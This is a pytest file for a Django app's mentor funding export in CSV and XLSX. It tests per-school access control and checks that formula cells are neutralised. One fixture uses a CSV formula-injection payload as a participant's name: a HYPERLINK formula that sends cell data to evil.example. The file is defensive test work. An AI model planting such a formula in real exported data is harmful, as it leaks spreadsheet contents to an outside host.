"""The mentor funding evidence file per school and term: DfE's words, read back as CSV and XLSX,
formula cells neutralised, and each school's tutors see only their own school."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from ecfhub.attendance.tests.factories import set_mark
from ecfhub.conftest import make_participant
from ecfhub.events.services import local_datetime
from ecfhub.events.tests.factories import assign, make_event, make_session
from ecfhub.people.models import Participant

NOW = local_datetime(datetime.date(2026, 1, 20), datetime.time(12, 0))
HEADER = [
    "school_urn",
    "school_name",
    "teacher_reference_number",
    "participant_id",
    "full_name",
    "cohort",
    "training_status",
    "mentor_training",
    "term",
    "event",
    "session_start",
    "session_end",
    "session_hours",
    "attendance",
    "attended",
]


@pytest.fixture
def sessions(cohort, mentor, other_mentor, school, calendar_2025):  # type: ignore[no-untyped-def]
    event = make_event(cohort, audience="mentor", title="Mentoring conversations")
    october = make_session(event, datetime.date(2025, 10, 8), start=(13, 0), end=(16, 30))
    november = make_session(make_event(cohort, audience="mentor", order=2, title="Giving feedback"),
                            datetime.date(2025, 11, 12))  # fmt: skip
    january = make_session(make_event(cohort, audience="mentor", order=3, title="Spring seminar"),
                           datetime.date(2026, 1, 14))  # fmt: skip
    Participant.objects.filter(pk=mentor.pk).update(provider_participant_id="6a1b7c2d-0000-4000-8000-000000000001")
    set_mark(assign(mentor, october), "present")
    set_mark(assign(mentor, november), "left_early")
    set_mark(assign(mentor, january), "present")  # spring: not in the autumn file
    set_mark(assign(other_mentor, october), "absent")
    trained = make_participant(email="tom@riverside.test", name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
                               school=school, cohort=cohort, kind="mentor", trn="2000009")  # fmt: skip
    Participant.objects.filter(pk=trained.pk).update(
        mentor_training=Participant.MentorTraining.TRAINED, status=Participant.Status.COMPLETED
    )
    return {"october": october}


def read_csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


def read_xlsx(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]  # no formula anywhere
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def file_url(school_id: int, fmt: str, term: str = "autumn", year: int = 2025) -> str:
    return reverse(
        "attendance:school_funding_file", kwargs={"school_id": school_id, "term": term, "year": year, "fmt": fmt}
    )


@time_machine.travel(NOW, tick=False)
def test_the_tutors_file_lists_each_mentor_with_the_terms_sessions_in_dfes_words(client, sessions, tutor, school):
    client.force_login(tutor)
    response = client.get(file_url(school.pk, "csv"))
    assert response["Content-Disposition"] == 'attachment; filename="mentor-funding-100001-autumn-2025.csv"'
    rows = read_csv(response)
    assert rows[0] == HEADER
    assert rows[1:] == [
        ["100001", "Riverside Primary", "2000009", "", '\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "2025",
         "active", "trained", "autumn-2025", "", "", "", "", "", ""],
        ["100001", "Riverside Primary", "2000001", "6a1b7c2d-0000-4000-8000-000000000001", "Max Mentor", "2025",
         "active", "new", "autumn-2025", "Mentoring conversations", "2025-10-08T13:00:00+01:00", "2025-10-08T16:30:00+01:00", "3.5",
         "present", "yes"],
        ["100001", "Riverside Primary", "2000001", "6a1b7c2d-0000-4000-8000-000000000001", "Max Mentor", "2025",
         "active", "new", "autumn-2025", "Giving feedback", "2025-11-12T16:00:00+00:00", "2025-11-12T17:00:00+00:00", "1.0",
         "left_early", "yes"],
    ]  # fmt: skip


@time_machine.travel(NOW, tick=False)
def test_the_xlsx_file_reads_back_with_the_same_rows_and_the_formula_kept_as_text(client, sessions, tutor, school):
    client.force_login(tutor)
    rows = read_xlsx(client.get(file_url(school.pk, "xlsx")))
    assert rows[0] == HEADER
    assert rows[1][4] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert rows[2][2:10] == ["2000001", "6a1b7c2d-0000-4000-8000-000000000001", "Max Mentor", 2025, "active", "new",
                             "autumn-2025", "Mentoring conversations"]  # fmt: skip
    assert rows[2][12:] == [3.5, "present", "yes"]


@time_machine.travel(NOW, tick=False)
def test_a_tutor_cannot_open_another_schools_file_or_the_hubs(client, sessions, tutor, other_school):
    client.force_login(tutor)
    assert client.get(file_url(other_school.pk, "csv")).status_code == 404
    assert client.get(reverse("attendance:school_funding", args=[other_school.pk])).status_code == 404
    hub_file = reverse("attendance:hub_funding_file", kwargs={"term": "autumn", "year": 2025, "fmt": "csv"})
    assert client.get(hub_file).status_code == 403


@time_machine.travel(NOW, tick=False)
def test_the_hubs_file_covers_every_school_and_a_missed_session_says_so(client, sessions, hub_admin):
    client.force_login(hub_admin)
    hub_file = reverse("attendance:hub_funding_file", kwargs={"term": "autumn", "year": 2025, "fmt": "csv"})
    rows = read_csv(client.get(hub_file))
    olga = [r for r in rows if r[2] == "2000002"]
    assert [(r[0], r[9], r[13], r[14]) for r in olga] == [("100002", "Mentoring conversations", "absent", "no")]
    assert {r[0] for r in rows[1:]} == {"100001", "100002"}


@time_machine.travel(NOW, tick=False)
def test_a_term_the_calendar_does_not_have_is_not_found(client, sessions, hub_admin, school):
    client.force_login(hub_admin)
    assert client.get(file_url(school.pk, "csv", year=2031)).status_code == 404


@time_machine.travel(NOW, tick=False)
def test_the_school_page_shows_each_mentors_term_as_a_table(client, sessions, tutor, school):
    client.force_login(tutor)
    page = client.get(reverse("attendance:school_funding", args=[school.pk]), {"term": "autumn-2025"})
    text = page.content.decode()
    assert "Autumn term 2025 (2025/26)" in text
    max_row = text.split("Max Mentor")[1].split("</tr>")[0]
    assert ">2<" in max_row and ">4.5<" in max_row  # placed on 2, attended 2, 4.5 hours
    # Without a choice it shows the latest term that has started: spring 2026, Max's seminar.
    latest = client.get(reverse("attendance:school_funding", args=[school.pk])).content.decode()
    assert "Mentors in Spring term 2026 (2025/26)" in latest
